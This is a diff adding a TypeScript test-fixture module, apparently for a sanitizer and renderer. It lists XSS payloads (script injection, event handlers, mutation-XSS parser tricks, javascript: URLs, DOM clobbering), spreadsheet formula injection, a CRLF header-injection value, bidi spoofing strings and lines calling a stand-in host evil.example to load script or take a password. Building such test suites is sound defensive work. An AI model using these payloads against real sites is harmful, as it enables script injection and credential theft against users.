@@ -1,0 +1,128 @@
+/** What an attacker writes, in one place: the cleaner, the calls that store texts and the pages that show them all meet the same. */
+
+/** Every payload that runs calls this; a page on which anything ran has it counted. `evil.example` is never asked for anything. */
+const RUN = 'window.__ran=(window.__ran||0)+1';
+const HOST = 'https://evil.example';
+
+/** HTML that acts where it is not cleaned: by itself, when it is pointed at, or once a second parser reads it differently. */
+export const HOSTILE_HTML: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script src="${HOST}/a.js"></script>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img/src=x/onerror=${RUN}//>`,
+  `<img src=x\u000conerror=${RUN}>`,
+  `<img src=x onerror\u0000="${RUN}">`,
+  `<IMG SRC=x ONERROR="${RUN}" `,
+  `<p title="</p><img src=x onerror=${RUN}>">a</p>`,
+  `<a href="x" title='"><img src=x onerror=${RUN}>'>a</a>`,
+  `<img alt="\`" src="x\`onerror=${RUN} ">`,
+  `<svg onload="${RUN}"></svg>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y=20>a</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></use></svg>`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  `<math><mi xlink:href="javascript:${RUN}">a</mi></math>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  `<template><script>${RUN}</script></template><template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
+  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
+  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
+  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
+  `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
+  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "<script>${RUN}</script>">]>&e;`,
+  `&lt;img src=x onerror=${RUN}&gt;&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
+  `${'<p>'.repeat(300)}<svg><style><img src=x onerror=${RUN}></style></svg>`,
+  `<a href="javascript:${RUN}">a</a>`,
+  `<a href=" &#1; JaVa&#x0A;ScRiPt&colon;${RUN}">a</a>`,
+  `<a href="java&Tab;script:${RUN}">a</a>`,
+  `<a href="javascript\u200b:${RUN}">a</a>`,
+  `<a href="data:text/html,<script>${RUN}</script>">a</a>`,
+  `<a href="vbscript:${RUN}">a</a>`,
+  `<a href="blob:${HOST}/1">a</a>`,
+  `<a href="/\\evil.example">a</a><a href="/&Tab;/evil.example">a</a><a href="\\\\evil.example">a</a><a href="//evil.example">a</a>`,
+  `<a href="https://example.com" target="_blank" rel="opener">a</a><a href="https://example.com" target=top>a</a>`,
+  `<a href="https://example.com" ping="${HOST}/ping">a</a>`,
+  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
+  `<img srcset="${HOST}/a.png 1x"><picture><source srcset="${HOST}/a.png"><img></picture>`,
+  `<video src="${HOST}/v.mp4" onerror=${RUN}><source onerror=${RUN}></video><audio src=x onerror=${RUN}></audio>`,
+  `<base href="${HOST}/"><link rel=stylesheet href="${HOST}/a.css"><link rel=preload as=script href="${HOST}/a.js">`,
+  `<meta http-equiv="refresh" content="0;url=${HOST}/"><meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<form action="${HOST}/take"><input name=password autofocus onfocus=${RUN}><button formaction="javascript:${RUN}">Log in</button></form>`,
+  `<iframe src="${HOST}/"></iframe><iframe srcdoc="<script>parent.__ran=1</script>"></iframe><iframe src="javascript:parent.__ran=1">`,
+  `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="javascript:${RUN}"><applet code=x>`,
+  `<style>@import url(${HOST}/a.css); p{background:url(${HOST}/a.png)} *{display:none}</style>`,
+  `<p style="background:url(${HOST}/a.png);position:fixed;inset:0;z-index:9999;width:expression(${RUN})">over all</p>`,
+  `<p class="modal dialog" style=position:fixed>a</p><p class=vh>hidden</p>`,
+  `<details open ontoggle=${RUN}><summary>a</summary></details><marquee onstart=${RUN}>a</marquee>`,
+  `<dialog open>Session over</dialog><p popover id=pop>a</p><button popovertarget=pop>a</button>`,
+  `<p tabindex=0 autofocus onfocus=${RUN} onanimationstart=${RUN} onpointerrawupdate=${RUN} onbeforematch=${RUN} hidden=until-found>a</p>`,
+  `<img name=cookie><img name=getElementById id=body><a id=__proto__></a><form id=documentElement name=implementation><input name=attributes></form>`,
+  `<p id=prepared>{"status":null}</p><p id=root></p><p id=main>second</p><p slot=x is=x-y>a</p>`,
+  `<table><td><table background="${HOST}/a.png"><tr><td colspan=999999999 rowspan=65535>a</td></tr></table>`,
+  `<img src="${'a'.repeat(2_000)}" width=99999999 height=99999999>`,
+  `<p>{x, plural, other {#}} {0} {{y}} \${RUN} <b>bold</b> %s %00 </0><0>`,
+];
+
+/** One line of text in which nothing is markup: each must be shown as it was written, or not be taken. */
+export const HOSTILE_TEXT: readonly string[] = [
+  `<img src=x onerror="${RUN}">`,
+  `"><svg onload=${RUN}>`,
+  `</script><script>${RUN}</script>`,
+  `--></title></style></textarea><img src=x onerror=${RUN}>`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  '{x, plural, one {#} other {<b>#</b>}}',
+  "{name} {0} '{' <0>a</0> <b>b</b>",
+  '__proto__',
+  'constructor',
+  'javascript:alert(1)',
+  '=HYPERLINK("https://evil.example","a")',
+  '+1+cmd|" /C calc"!A0',
+  '-1+cmd|" /C calc"!A0',
+  '@SUM(1+1)*cmd|a',
+  '%0d%0aSet-Cookie: a=b',
+  'ﷺ\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b',
+  'x'.repeat(60),
+];
+
+/** Texts that no single line may be: they break lines, turn the direction, say nothing that can be seen, or cannot be kept. */
+export const UNFIT_TEXT: readonly string[] = [
+  'a\r\nBcc: all@evil.example',
+  'a\u0000b',
+  'a\u001b[31mb',
+  'a\ud800b',
+  'admin\u202egnp.exe',
+  'a\u2066b\u2069',
+  '\u200b\u200d\u2060',
+  '\u3164\u115f\u00ad',
+];
+
+/** Addresses that no picture and no link may have. */
+export const HOSTILE_ADDRESSES: readonly string[] = [
+  `javascript:${RUN}`,
+  ` JaVaScRiPt:${RUN}`,
+  `java\tscript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
+  'vbscript:x',
+  'blob:https://evil.example/1',
+  'file:///etc/passwd',
+  'view-source:https://evil.example',
+  'http://evil.example/a.png',
+  '//evil.example/a.png',
+  '/\\evil.example/a.png',
+  '\\\\evil.example\\a.png',
+  '/\t/evil.example',
+  'logo.png',
+  '/a b.png',
+  `https://example.com/a.png" onerror="${RUN}`,
+  '',
+];
+
+/** Names that every object of the language has already: as a code, a tag, a page or a language they must be unknown. */
+export const PROTOTYPE_NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'] as const;
